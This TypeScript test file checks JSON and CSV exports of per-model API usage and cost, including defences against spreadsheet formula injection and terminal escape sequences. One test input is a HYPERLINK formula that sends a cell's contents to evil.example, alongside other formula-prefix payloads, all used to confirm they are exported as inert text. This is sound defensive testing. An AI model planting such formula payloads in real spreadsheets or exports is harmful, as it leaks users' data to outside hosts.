import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { record, usageOf } from '../budget/testing/calls.ts';
import { summarise } from './summarise.ts';
import { usageCsv, usageJson } from './usage-json.ts';

const usage = {
  uncachedInput: 1234,
  cacheRead: 5_000_000,
  cacheWrite5m: 10,
  cacheWrite1h: 1,
  output: 999,
  reasoning: 0,
};
const calls = [
  record({ model: 'claude-opus-5', usage, usd: 12.345 }),
  record({ model: 'gpt-99', usage: usageOf(7), usd: null }),
  record({ model: 'gpt-5', usage: usageOf(1000), usd: 0.000_12 }),
  record({ model: 'gpt-5', usd: null, status: 500, usage: usageOf(0) }),
];
const rows = summarise(calls, ['model']);

describe('JSON', () => {
  test('has rows with their keys by name', () => {
    expect(JSON.parse(usageJson(rows, 3))).toMatchObject({
      unread: 3,
      rows: [
        { key: { model: 'claude-opus-5' }, calls: 1, cacheRead: 5_000_000, usd: 12.345, unpriced: 0, tables: ['test'] },
        { key: { model: 'gpt-5' }, failed: 1 },
        { key: { model: 'gpt-99' }, usd: null, unpriced: 1 },
      ],
    });
    expect(usageJson([], 0)).toBe('{\n  "rows": [],\n  "unread": 0\n}\n');
  });
});

/** RFC 4180, as spreadsheets read it. */
function parseCsv(text: string): readonly (readonly string[])[] {
  const lines: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gu)) {
    lines.at(-1)?.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
    if (end === '\r\n') lines.push([]);
  }
  return lines.slice(0, -1);
}

describe('CSV', () => {
  test('has a line of names, and one for each row', () => {
    expect(usageCsv(rows, ['model'])).toBe(
      [
        'model,calls,failed,partial,toolCalls,uncachedInput,cacheRead,cacheWrite5m,cacheWrite1h,output,reasoning,usd,unpriced,untold,tables',
        'claude-opus-5,1,0,0,0,1234,5000000,10,1,999,0,12.345,0,0,test',
        'gpt-5,2,1,0,0,1000,0,0,0,0,0,0.00012,0,0,test',
        'gpt-99,1,0,0,0,7,0,0,0,0,0,,1,0,',
        '',
      ].join('\r\n'),
    );
    expect(usageCsv([], ['day', 'model'])).toMatch(/^day,model,calls,[^\r\n]*\r\n$/u);
  });

  test('writes small costs without an exponent', () => {
    expect(usageCsv(summarise([record({ usd: 3e-9 })], []), [])).toContain(',0.000000003,');
  });

  test.each(['=HYPERLINK("https://evil.example/?"&A1)', '+1', '-1', '@SUM(A1)', '\uFF1Dcmd', '\uFF20x'])(
    'makes %j text and no formula',
    (model) => {
      const [, line] = parseCsv(usageCsv(summarise([record({ model })], ['model']), ['model']));
      expect(line?.[0]).toBe(`'${model}`);
    },
  );

  test('says nothing to a terminal that a name has in it', () => {
    expect(usageCsv(summarise([record({ model: '\u001b[2J\u202e' })], ['model']), ['model'])).toContain(
      '\\u{1b}[2J\\u{202e},1,',
    );
  });

  test('keeps names whole, whatever is in them, and has as many cells in each line', () => {
    const name = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom('a,b', 'a"b', 'a\r\nb', '"', ',', "'"));
    fc.assert(
      fc.property(fc.array(fc.record({ model: name, agent: name }), { maxLength: 8 }), (some) => {
        const lines = parseCsv(
          usageCsv(
            summarise(
              some.map((one) => record(one)),
              ['model', 'agent'],
            ),
            ['model', 'agent'],
          ),
        );
        expect(new Set(lines.map((line) => line.length))).toEqual(new Set([16]));
        for (const cell of lines.flat()) expect(cell).not.toMatch(/^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\t\r]/u);
      }),
    );
  });
});
